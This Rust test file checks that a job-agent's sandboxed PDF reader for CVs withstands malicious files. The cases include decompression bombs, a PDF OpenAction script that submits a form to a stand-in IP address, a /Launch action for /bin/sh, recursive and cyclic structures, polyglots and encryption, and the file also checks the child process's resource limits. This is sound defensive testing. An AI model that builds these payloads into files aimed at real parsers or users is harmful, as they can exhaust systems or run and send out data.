//! Files that mean harm, read by the real limited child.

use crate::house::CV;
use bytes::Bytes;
use flate2::Compression;
use flate2::write::ZlibEncoder;
use job_agent::document::{Format, Limit, Page, Reader, Unreadable};
use server::adapters::reader::FileReader;
use std::io::Write;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const PROGRAM: &str = env!("CARGO_BIN_EXE_job-agent");
const TEXT: &[u8] = b"BT /F1 12 Tf 50 750 Td (Ada Example, engineer) Tj ET\n";

async fn read(file: Vec<u8>) -> Result<Vec<Page>, Unreadable> {
    let started = Instant::now();
    let answer = FileReader::with_program(PROGRAM).read(Bytes::from(file)).await.map(|document| document.pages);
    assert!(started.elapsed() < Duration::from_secs(18), "no file may hold a worker up: {:?}", started.elapsed());
    answer
}

fn packed(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn stream(dictionary: &str, body: &[u8]) -> Vec<u8> {
    let head = format!("<< {dictionary} /Length {} >>\nstream\n", body.len());
    [head.as_bytes(), body, b"\nendstream"].concat()
}

/// A file of one page: the catalogue's extra entries, the page's, and the objects from number 5 on.
fn file(catalogue: &str, page: &str, more: &[Vec<u8>]) -> Vec<u8> {
    let mut objects = vec![
        format!("<< /Type /Catalog /Pages 2 0 R {catalogue} >>").into_bytes(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> {page} >>").into_bytes(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>".to_vec(),
    ];
    objects.extend_from_slice(more);
    with_table(&objects, "")
}

fn with_table(objects: &[Vec<u8>], trailer: &str) -> Vec<u8> {
    let (mut file, mut table) = (b"%PDF-1.7\n".to_vec(), String::new());
    for (at, object) in objects.iter().enumerate() {
        table.push_str(&format!("{:010} 00000 n \n", file.len()));
        file.extend(format!("{} 0 obj\n", at + 1).bytes().chain(object.iter().copied()).chain(*b"\nendobj\n"));
    }
    let (start, size) = (file.len(), objects.len() + 1);
    let end = format!(
        "xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n"
    );
    file.extend_from_slice(end.as_bytes());
    file
}

fn text_of(pages: &[Page]) -> String {
    pages.iter().map(|page| page.text.as_str()).collect()
}

#[tokio::test]
async fn what_unpacks_to_too_much_is_said_to_be_too_heavy_and_by_how_much() {
    let bomb = packed(&vec![b' '; 80 * 1024 * 1024]);
    assert!(bomb.len() < 100_000);
    let once = stream("/Filter /FlateDecode", &bomb);
    let twice = stream("/Filter [/FlateDecode /FlateDecode]", &packed(&bomb));
    let part = stream("/Filter /FlateDecode", &packed(&vec![b' '; 20 * 1024 * 1024]));
    for (name, more, contents) in [
        ("one stream", vec![once.clone()], "/Contents 5 0 R"),
        ("packed twice", vec![twice], "/Contents 5 0 R"),
        ("many streams", vec![part.clone(), part.clone(), part.clone(), part], "/Contents [5 0 R 6 0 R 7 0 R 8 0 R]"),
        ("beside a text", vec![stream("", TEXT), once], "/Contents [5 0 R 6 0 R]"),
    ] {
        let failure = read(file("", contents, &more)).await.unwrap_err();
        assert_eq!(failure, Unreadable::TooHeavy(Limit::Unpacked), "{name}");
        assert!(failure.to_string().contains("unpacks to more than 64 MiB"), "{failure}");
    }
}

#[tokio::test]
async fn a_stream_that_the_parser_passes_over_is_no_scan() {
    let dense = stream("/Filter /FlateDecode", &packed(&vec![b' '; 5 * 1024 * 1024]));
    let failure = read(file("", "/Contents 5 0 R", std::slice::from_ref(&dense))).await.unwrap_err();
    assert_eq!(failure, Unreadable::TooHeavy(Limit::Growth));
    // Beside a text it does no harm.
    let pages = read(file("", "/Contents [5 0 R 6 0 R]", &[stream("", TEXT), dense])).await.unwrap();
    assert!(text_of(&pages).contains("Ada Example"));
}

#[tokio::test]
async fn large_pictures_do_not_keep_a_cv_from_being_read() {
    let picture = "/Type /XObject /Subtype /Image /Width 6000 /Height 5000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode";
    let picture = stream(picture, &packed(&vec![200; 90_000_000]));
    let pages = read(file("", "/Contents 5 0 R", &[stream("/Filter /FlateDecode", &packed(TEXT)), picture])).await.unwrap();
    assert!(text_of(&pages).contains("Ada Example"));
}

#[tokio::test]
async fn a_script_in_a_file_is_neither_run_nor_read() {
    let script = "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://192.0.2.1/'\\)) >>
        /AA << /WC << /S /Launch /F (/bin/sh) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(2\\)) >>] >> >>";
    let pages = read(file(script, "/Contents 5 0 R", &[stream("", TEXT)])).await.unwrap();
    let text = text_of(&pages);
    assert!(text.contains("Ada Example") && !text.contains("alert") && !text.contains("/bin/sh"), "{text}");
}

#[tokio::test]
async fn a_file_that_was_cut_short_never_takes_anything_down() {
    let mut read_at_all = 0;
    for tenth in 1..10 {
        match read(CV[..CV.len() * tenth / 10].to_vec()).await {
            Ok(pages) => {
                assert!(!text_of(&pages).trim().is_empty(), "no text is an error, never a profile");
                read_at_all += 1;
            }
            Err(Unreadable::Broken(Format::Pdf, _) | Unreadable::NoText) => {}
            Err(other) => panic!("{tenth}: {other:?}"),
        }
    }
    assert!(read_at_all < 9, "a tenth of a file is no file");
    assert!(text_of(&read(CV.to_vec()).await.unwrap()).contains("Mara Lindqvist"));
}

#[tokio::test]
async fn an_encrypted_file_asks_for_a_copy_without_a_password() {
    let objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [] /Count 0 >>".to_vec(),
        format!("<< /Filter /Standard /V 1 /R 2 /P -4 /O <{0}> /U <{0}> >>", "ab".repeat(32)).into_bytes(),
    ];
    let id = "<00112233445566778899aabbccddeeff>";
    let failure = read(with_table(&objects, &format!("/Encrypt 3 0 R /ID [{id} {id}]"))).await.unwrap_err();
    assert_eq!(failure, Unreadable::Encrypted);
    assert!(failure.to_string().contains("Save a copy without one"));
}

#[tokio::test]
async fn nests_circles_and_lies_end_in_words() {
    let nest = |depth: usize| format!("/Deep {}{}", "[".repeat(depth), "]".repeat(depth));
    let forms: Vec<Vec<u8>> = (0..40)
        .map(|at| {
            let next = if at == 39 { 5 } else { at + 7 };
            let form = format!("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X {next} 0 R >> >>");
            stream(&form, "/X Do ".repeat(8).as_bytes())
        })
        .collect();
    let mut doubling = vec![stream("", b"/X Do")];
    doubling.extend(forms);
    let kids: String = "3 0 R ".repeat(100_000);
    let many = [
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        format!("<< /Type /Pages /Kids [{kids}] /Count 100000 >>").into_bytes(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>".to_vec(),
    ];
    let circle = [b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(), b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>".to_vec()];
    let length = stream("", TEXT).iter().map(|b| if b.is_ascii_digit() { b'9' } else { *b }).collect();
    for (name, bytes) in [
        ("10,000 arrays", file(&nest(10_000), "", &[])),
        ("300,000 arrays", file(&nest(300_000), "", &[])),
        ("forms that double", file("", "/Resources << /XObject << /X 6 0 R >> >> /Contents 5 0 R", &doubling)),
        ("100,000 pages", with_table(&many, "")),
        ("pages in a circle", with_table(&circle, "")),
        ("a table that is its own past", with_table(&circle, "/Prev 9")),
        ("a length that lies", file("", "/Contents 5 0 R", &[length])),
        ("a page as large as a town", file("", "/MediaBox [0 0 1e30 -1e30]", &[])),
        ("also a web page", [b"<html><script>alert(1)</script>%PDF-1.4\n".to_vec(), vec![b'x'; 4096]].concat()),
    ] {
        if let Err(failure) = read(bytes).await {
            assert!(failure.to_string().ends_with(['.', '!']), "{name}: {failure}");
        }
    }
    // To count them may already take too long.
    let many = read(with_table(&many, "")).await;
    assert!(matches!(many, Err(Unreadable::TooManyPages(100_000) | Unreadable::TooHeavy(_))), "{many:?}");
}

/// The limits as the kernel keeps them for the child that waits for its file.
#[test]
fn the_child_gives_its_rights_away_before_it_reads() {
    let mut child = Command::new(PROGRAM).arg("read-file").stdin(Stdio::piped()).stdout(Stdio::null()).spawn().unwrap();
    let limits = || std::fs::read_to_string(format!("/proc/{}/limits", child.id())).unwrap();
    let limit = |name: &str| {
        let all = limits();
        let line = all.lines().find(|line| line.starts_with(name)).unwrap().to_owned();
        line[name.len()..].split_whitespace().next().unwrap().to_owned()
    };
    let deadline = Instant::now() + Duration::from_secs(20);
    while limit("Max open files") != "3" {
        assert!(Instant::now() < deadline, "{}", limits());
        std::thread::yield_now();
    }
    for (name, most) in [
        ("Max cpu time", "10"),
        ("Max file size", "0"),
        ("Max core file size", "0"),
        ("Max address space", "536870912"),
        // With the three that it has there is no place for a socket or another file.
        ("Max open files", "3"),
    ] {
        assert_eq!(limit(name), most, "{name}");
    }
    drop(child.stdin.take());
    child.wait().unwrap();
}
